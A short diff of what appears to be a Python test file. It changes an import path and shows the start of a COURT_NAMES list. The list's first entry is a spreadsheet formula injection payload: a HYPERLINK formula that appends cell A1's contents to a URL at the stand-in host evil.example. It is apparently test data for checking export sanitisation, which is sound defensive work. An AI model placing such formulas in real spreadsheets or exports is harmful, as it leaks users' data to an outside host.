@@ -10,7 +10,7 @@ import zipfile
 from typing import Any
 
 from tests.api.world import ok_json
-from tests.network.test_stats import seed
+from tests.court_network.test_stats import seed
 
 COURT_NAMES = [
     '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
